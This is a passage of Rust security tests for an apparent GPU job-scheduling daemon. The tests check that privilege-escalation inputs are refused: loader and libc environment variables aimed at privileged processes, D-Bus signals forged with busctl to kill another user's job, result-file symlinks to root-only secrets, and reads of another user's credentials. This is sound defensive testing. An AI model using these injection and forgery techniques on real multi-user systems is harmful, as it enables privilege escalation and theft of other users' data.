    let (_, shown) = d.harness.systemctl(&["show", unit]);
    let file = d
        .harness
        .command("cat")
        .arg(format!("/run/systemd/transient/{unit}"))
        .output()
        .unwrap();
    format!("{shown}\n{}", String::from_utf8_lossy(&file.stdout))
}

#[test]
fn a_jobs_environment_never_reaches_a_privileged_process_nor_its_record() {
    let d = TestDaemon::start("envpriv");
    let trap = root_only_dir(&d, "trap");
    let trap_s = trap.display().to_string();
    // Every loader and libc variable a privileged process would honour,
    // and the recorder facts an ExecStopPost reads from its environment.
    let env = json!({
        "LD_LIBRARY_PATH": format!("{trap_s}/lib"),
        "LD_DEBUG": "all",
        "LD_DEBUG_OUTPUT": format!("{trap_s}/ld-debug"),
        "LD_PROFILE": "libc.so.6",
        "LD_PROFILE_OUTPUT": trap_s.clone(),
        "LD_SHOW_AUXV": "1",
        "LD_BIND_NOW": "1",
        "GLIBC_TUNABLES": "glibc.malloc.check=3",
        "GCONV_PATH": format!("{trap_s}/gconv"),
        "MALLOC_TRACE": format!("{trap_s}/mtrace"),
        "LOCPATH": format!("{trap_s}/locale"),
        "NLSPATH": format!("{trap_s}/nls"),
        "HOSTALIASES": format!("{trap_s}/hosts"),
        "TZDIR": trap_s.clone(),
        "SERVICE_RESULT": "success",
        "EXIT_CODE": "exited",
        "EXIT_STATUS": "0",
        "MONITOR_SERVICE_RESULT": "success",
        "MONITOR_EXIT_CODE": "exited",
        "MONITOR_EXIT_STATUS": "0",
        "WANDB_API_KEY": "hunter2-secret-token",
    });
    let job = json!({"version": 1, "command": ["/bin/sh", "-c", "sleep 2; exit 3"], "env": env});
    d.drop_job(ALICE, "envjob.json", &job.to_string());
    d.drop_job(
        ALICE,
        "after-envjob.json",
        r#"{"version": 1, "command": ["true"], "after_ok": ["envjob"]}"#,
    );
    d.wait_running("envjob");
    let unit = "ptrain-job@envjob.service";
    let public = public_unit_text(&d, unit);
    for needle in [
        "hunter2-secret-token",
        "sleep 2",
        "GLIBC_TUNABLES",
        "LD_DEBUG",
    ] {
        assert!(
            !public.contains(needle),
            "{needle} is readable by every user:\n{public}"
        );
    }
    // The job ends while ptraind is down: only the recorder sees it.
    let (ok, out) = d.harness.systemctl(&["stop", "ptraind.service"]);
    assert!(ok, "{out}");
    wait_for("the job to end", WAIT, || {
        (d.unit_property(unit, "ActiveState") != "active").then_some(())
    });
    d.start_service();
    let end = d.wait_ended("envjob");
    assert_eq!(end["status"], "failed", "{end}");
    assert_eq!(end["exit_code"], 3, "{end}");
    assert_eq!(d.wait_ended("after-envjob")["status"], "dependency-failed");
    let made: Vec<_> = std::fs::read_dir(&trap)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .collect();
    assert!(
        made.is_empty(),
        "a privileged process honoured the job's variables: {made:?}"
    );
}

#[test]
fn forged_systemd_signals_from_a_user_are_ignored() {
    let d = TestDaemon::start("forged");
    d.drop_job(
        BOB,
        "victim.json",
        r#"{"version": 1, "command": ["sleep", "30"], "gpus": 2}"#,
    );
    d.drop_job(
        ALICE,
        "waiter.json",
        r#"{"version": 1, "command": ["true"], "gpus": 1}"#,
    );
    d.wait_running("victim");
    let owner = d.as_user(
        ALICE,
        "busctl",
        &[
            "--system",
            "call",
            "org.freedesktop.DBus",
            "/org/freedesktop/DBus",
            "org.freedesktop.DBus",
            "GetNameOwner",
            "s",
            "org.ptrain.Daemon1",
        ],
    );
    let owner = String::from_utf8_lossy(&owner.stdout);
    let ptraind = owner
        .trim()
        .trim_start_matches("s ")
        .trim_matches('"')
        .to_owned();
    assert!(ptraind.starts_with(':'), "ptraind's unique name: {owner}");
    let path = "/org/freedesktop/systemd1/unit/ptrain_2djob_40victim_2eservice";
    let emit = |args: &[&str]| {
        let mut full = vec!["--system", "emit", "--destination", ptraind.as_str()];
        full.extend_from_slice(args);
        let out = d.as_user(ALICE, "busctl", &full);
        assert!(out.status.success(), "busctl emit: {}", text(&out));
    };
    // Every stream ptraind acts on: the Service and Unit halves of a
    // PropertiesChanged pair, and JobRemoved.
    emit(&[
        path,
        "org.freedesktop.DBus.Properties",
        "PropertiesChanged",
        "sa{sv}as",
        "org.freedesktop.systemd1.Service",
        "4",
        "Result",
        "s",
        "success",
        "ExecMainCode",
        "i",
        "1",
        "ExecMainStatus",
        "i",
        "0",
        "MainPID",
        "u",
        "0",
        "0",
    ]);
    emit(&[
        path,
        "org.freedesktop.DBus.Properties",
        "PropertiesChanged",
        "sa{sv}as",
        "org.freedesktop.systemd1.Unit",
        "2",
        "ActiveState",
        "s",
        "inactive",
        "SubState",
        "s",
        "dead",
        "0",
    ]);
    emit(&[
        "/org/freedesktop/systemd1",
        "org.freedesktop.systemd1.Manager",
        "JobRemoved",
        "uoss",
        "9",
        "/org/freedesktop/systemd1/job/9",
        "ptrain-job@victim.service",
        "failed",
    ]);
    // Once more: refusals are logged at the 1st, 2nd, 4th, ... one.
    emit(&[
        "/org/freedesktop/systemd1",
        "org.freedesktop.systemd1.Manager",
        "JobRemoved",
        "uoss",
        "10",
        "/org/freedesktop/systemd1/job/10",
        "ptrain-job@victim.service",
        "done",
    ]);
    wait_for("ptraind to refuse all four forged signals", WAIT, || {
        d.daemon_log().contains("(4 refused so far)").then_some(())
    });
    let victim = d.status("victim").unwrap();
    assert_eq!(
        victim["status"], "running",
        "a forged signal ended bob's job: {victim}"
    );
    let waiter = d.status("waiter").unwrap();
    assert_eq!(
        waiter["status"], "queued",
        "bob's GPUs were handed on: {waiter}"
    );
    d.assert_alive();
}

#[test]
fn jobs_write_only_their_workdir_and_results_and_their_shm_is_their_own() {
    let d = TestDaemon::start("writable");
    let (uid, gid) = ensure_user(ALICE);
    let home = Path::new("/home").join(format!("ptrain-t-{}", std::process::id()));
    std::fs::create_dir_all(&home).unwrap();
    std::os::unix::fs::chown(&home, Some(uid), Some(gid)).unwrap();
    let probe = format!(
        "echo x > /dev/shm/ptrain-probe && test -s /dev/shm/ptrain-probe \
         && ! touch {home}/escaped 2>/dev/null && ! touch /dev/mqueue/q 2>/dev/null \
         && touch ./inside \
         && printf '{{\"probe\": \"ok\"}}' > \"$PTRAIN_RESULT_FILE\"",
        home = home.display()
    );
    let job = json!({"version": 1, "command": ["/bin/sh", "-c", probe],
                     "workdir": d.workdir(ALICE)});
    d.drop_job(ALICE, "probe.json", &job.to_string());
    let end = d.wait_ended("probe");
    assert_eq!(
        end["status"],
        "succeeded",
        "{end}\n{}",
        d.harness.journal(&["-u", "ptrain-job@probe.service"])
    );
    assert_eq!(end["result"], json!({"probe": "ok"}), "{end}");
    assert!(!home.join("escaped").exists());
    let shm = d
        .harness
        .command("test")
        .args(["-e", "/dev/shm/ptrain-probe"])
        .status()
        .unwrap();
    assert!(
        !shm.success(),
        "the job's /dev/shm outlived it, shared with every user"
    );
    assert!(d.workdir(ALICE).join("inside").exists());
    let _ = std::fs::remove_dir_all(&home);
}

#[test]
fn the_result_file_is_read_as_the_jobs_owner_never_through_a_link() {
    let d = TestDaemon::start("resultlink");
    let secret = root_only_dir(&d, "rootonly").join("secret.json");
    std::fs::write(&secret, r#"{"root": "secret"}"#).unwrap();
    for (id, target) in [
        ("to-root", secret.display().to_string()),
        ("to-nothing", "/root/none.json".into()),
    ] {
        let script = format!("ln -s {target} \"$PTRAIN_RESULT_FILE\"");
        let job = json!({"version": 1, "command": ["/bin/sh", "-c", script]});
        d.drop_job(ALICE, &format!("{id}.json"), &job.to_string());
    }
    for id in ["to-root", "to-nothing"] {
        let end = d.wait_ended(id);
        assert_eq!(end["status"], "succeeded", "{end}");
        assert!(end["result"].is_null(), "{end}");
    }
    // Both links are refused alike: nothing tells whether the target exists.
    let log = d.daemon_log();
    assert_eq!(
        log.matches("ignoring the job's result file").count(),
        2,
        "{log}"
    );
}

#[test]
fn secrets_reach_only_their_job_through_credentials() {
    let d = TestDaemon::start("secrets");
    let secret = d.workdir(ALICE).join(".wandb");
    std::fs::write(&secret, "tok-123").unwrap();
    chown(&secret, ALICE);
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
    let check = r#"test "$(cat "$CREDENTIALS_DIRECTORY/wandb")" = tok-123"#;
    let job = |id: &str| {
        json!({"version": 1, "id": id, "command": ["/bin/sh", "-c", check],
               "credentials": {"wandb": secret}})
        .to_string()
    };
    d.drop_job(ALICE, "mine.json", &job("mine"));
    d.drop_job(BOB, "theirs.json", &job("theirs"));
    let mine = d.wait_ended("mine");
    assert_eq!(mine["status"], "succeeded", "{mine}");
    // Bob names Alice's file: read as Bob, it is refused.
    let theirs = d.wait_ended("theirs");
    assert_eq!(theirs["status"], "launch-failed", "{theirs}");
    let detail = theirs["detail"].as_str().unwrap_or_default().to_owned();
    assert!(
        detail.contains("wandb") && detail.contains("Permission denied"),
        "{theirs}"
    );
    assert!(!public_unit_text(&d, "ptrain-job@mine.service").contains("tok-123"));
}

#[test]
fn a_job_that_ignores_sigterm_is_killed_after_the_admins_grace() {
    let d = TestDaemon::start_with(
        "grace",
        Opts {
            extra_config: "[jobs]\nstop_grace = \"2s\"\n".into(),
            ..Opts::default()
        },
    );
    let job = r#"{"version": 1, "command": ["/bin/sh", "-c", "trap '' TERM; sleep 60 & wait; sleep 60"], "timeout": "1s"}"#;
    d.drop_job(ALICE, "stubborn.json", job);
    d.wait_running("stubborn");
    assert_eq!(
        d.unit_property("ptrain-job@stubborn.service", "TimeoutStopUSec"),
        "2s"
    );
    let start = Instant::now();
    let end = d.wait_ended("stubborn");
    assert_eq!(end["status"], "timeout", "{end}");
    assert!(
        start.elapsed() < Duration::from_secs(15),
        "ended after {:?}",
        start.elapsed()
    );
}

// ---------------------------------------------------------------------
// Issue 17: nothing lost. daemon-reload and daemon-reexec during a job,
// with ptraind up and down: the outcome, exit code and result are exact.

#[test]
fn daemon_reload_and_reexec_during_jobs_lose_nothing() {
    let d = TestDaemon::start("reload");
    let script =
        r#"sleep 3; printf '{"epoch": 7, "arg": "%s"}' "$1" > "$PTRAIN_RESULT_FILE"; exit 5"#;
    for id in ["up", "down"] {
        let job = json!({"version": 1, "command": ["/bin/sh", "-c", script, "sh", "$HOME %h $$"]});
        d.drop_job(ALICE, &format!("{id}.json"), &job.to_string());
    }
    d.wait_running("up");
    d.wait_running("down");
    let before = d.unit_property("ptrain-job@up.service", "ExecStart");
    for verb in ["daemon-reload", "daemon-reexec"] {
        let (ok, out) = d.harness.systemctl(&[verb]);
        assert!(ok, "{verb}: {out}");
    }
    for id in ["up", "down"] {
        let unit = format!("ptrain-job@{id}.service");
        assert_eq!(d.unit_property(&unit, "LoadState"), "loaded");
        assert_eq!(d.unit_property(&unit, "ActiveState"), "active");
    }
    assert_eq!(
        d.unit_property("ptrain-job@up.service", "ExecStart")
            .split("start_time")
            .next(),
        before.split("start_time").next()
    );
    let journal = d.harness.journal(&["-b"]);
    assert!(!journal.contains("Unknown key"), "{journal}");
    // "down" ends while ptraind is stopped, after another reload.
    let (ok, out) = d.harness.systemctl(&["stop", "ptraind.service"]);
    assert!(ok, "{out}");
    let (ok, out) = d.harness.systemctl(&["daemon-reload"]);
    assert!(ok, "{out}");
    wait_for("both jobs to end", WAIT, || {
        ["up", "down"]
            .iter()
            .all(|id| {
                d.unit_property(&format!("ptrain-job@{id}.service"), "ActiveState") != "active"
            })
            .then_some(())
    });
    d.start_service();
    for id in ["up", "down"] {
        let end = d.wait_ended(id);
        assert_eq!(end["status"], "failed", "{id}: {end}");
        assert_eq!(end["exit_code"], 5, "{id}: {end}");
        assert_eq!(
            end["result"],
            json!({"epoch": 7, "arg": "$HOME %h $$"}),
            "{id}: {end}"
        );
    }
}

#[test]
fn other_users_see_only_id_owner_state_and_gpus_of_a_job() {
    for (test, extra, bob_sees) in [
        ("privacy", "", false),
        ("privacy-all", "[privacy]\nshow_all_jobs = true\n", true),
    ] {
        let d = TestDaemon::start_with(
            test,
            Opts {
                extra_config: extra.into(),
                ..Opts::default()
            },
        );
        let job = r#"{"version": 1, "command": ["sh", "-c", "echo '{\"loss\": 0.25}' > \"$PTRAIN_RESULT_FILE\"; exit 4", "--api-key=s3cret"], "gpus": 1}"#;
        d.drop_job(ALICE, "mine.json", job);
        let end = d.wait_ended("mine");
        assert_eq!(end["exit_code"], 4, "{end}");
        for (user, whole) in [(ALICE, true), ("root", true), (BOB, bob_sees)] {
            for args in [
                &["status", "mine", "--json"][..],
                &["list", "--all", "--json"],
                &["status", "mine"],
            ] {
                let shown = text(&d.ptrain(user, args));
                assert!(
                    shown.contains("mine") && shown.contains(ALICE),
                    "{user} {args:?}: {shown}"
                );
                // A listing carries less than `status`; what it carries of
                // the details is the owner's too.
                let is_list = args[0] == "list";
                for detail in ["s3cret", "loss", "exit code 4"] {
                    let seen = shown.contains(detail);
                    if is_list {
                        assert!(
                            whole || !seen,
                            "{user} {args:?} ({test}) sees {detail}: {shown}"
                        );
                    } else {
                        assert_eq!(
                            seen, whole,
                            "{user} {args:?} ({test}) sees {detail}: {shown}"
                        );
                    }
                }
            }
        }
    }
}
